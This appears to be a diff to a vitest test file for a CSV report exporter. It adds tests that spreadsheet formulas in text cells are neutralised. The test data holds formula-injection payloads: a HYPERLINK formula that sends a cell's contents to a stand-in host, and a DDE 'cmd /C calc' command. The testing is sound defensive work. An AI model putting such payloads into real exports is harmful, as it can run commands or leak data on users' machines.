@@ -1,4 +1,5 @@
 import { describe, expect, it } from 'vitest';
+import { parse } from 'csv-parse/sync';
 import { reportsCsv } from '../../src/site/csv.ts';
 import { shippedReports } from './shipped-reports.ts';
 
@@ -22,5 +23,41 @@ describe('reportsCsv', () => {
   it('quotes cells with commas, quotes and line breaks', () => {
     const odd = { ...reports[0]!, name: '甲,"乙"', entity: '一\n二' };
     expect(reportsCsv([odd]).split('\r\n').slice(1).join('\r\n')).toContain(',"甲,""乙""","一\n二",');
+  });
+
+  it('makes every text cell that a spreadsheet would run as a formula read as text, and leaves numbers alone', () => {
+    const hostile = [
+      '=HYPERLINK("http://example.invalid/?"&A1,"点击")',
+      '+cmd|\' /C calc\'!A0',
+      '-2+3',
+      '@SUM(1+1)*cmd|\' /C calc\'!A0',
+      '\t=1+1',
+      '\r=1+1',
+    ];
+    const base = reports[0]!;
+    const rows = hostile.map((name, i) => ({
+      ...base,
+      id: `hostile-${i}`,
+      name,
+      entity: name,
+      district: name,
+      budget: { ...base.budget!, value: -500 },
+    }));
+    // Read back with a real CSV parser, as a spreadsheet would split the cells.
+    const records: Record<string, string>[] = parse(reportsCsv(rows), { bom: true, columns: true, relax_quotes: false });
+    expect(records).toHaveLength(hostile.length);
+    records.forEach((record, i) => {
+      for (const column of ['单位', '单位全称', '区']) {
+        expect(record[column], column).toBe(`'${hostile[i]}`);
+        expect(record[column]).not.toMatch(/^[=+\-@\t\r]/);
+      }
+      // A negative amount is a number, not text: it stays as written.
+      expect(record['预算数(万元)']).toBe('-500');
+    });
+  });
+
+  it('leaves ordinary text as it is', () => {
+    const records: Record<string, string>[] = parse(reportsCsv(reports), { bom: true, columns: true });
+    expect(records.map((r) => r['单位'])).toEqual(reports.map((r) => r.name));
   });
 });
